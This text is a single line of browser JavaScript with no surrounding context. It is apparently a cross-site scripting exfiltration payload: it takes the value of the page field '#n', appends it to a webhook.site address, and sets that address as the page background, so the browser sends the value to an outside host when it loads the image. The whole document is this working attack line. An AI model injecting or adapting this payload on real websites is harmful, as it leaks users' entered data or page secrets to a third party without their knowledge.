document.body.style.backgroundImage='url(https://webhook.site/abc?'+document.querySelector('#n').value+')'
